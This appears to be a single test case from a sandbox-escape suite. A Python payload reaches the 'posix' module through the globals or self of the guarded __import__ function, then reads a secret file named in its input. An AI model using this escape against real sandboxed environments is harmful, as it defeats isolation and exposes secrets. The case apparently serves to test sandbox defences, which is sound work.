# class: guards as gadgets
# technique: the globals or closure of a guard written in Python
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    reached = __import__.__globals__["sys"].modules["posix"]
except AttributeError:
    reached = __import__.__self__.__import__("posix")
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
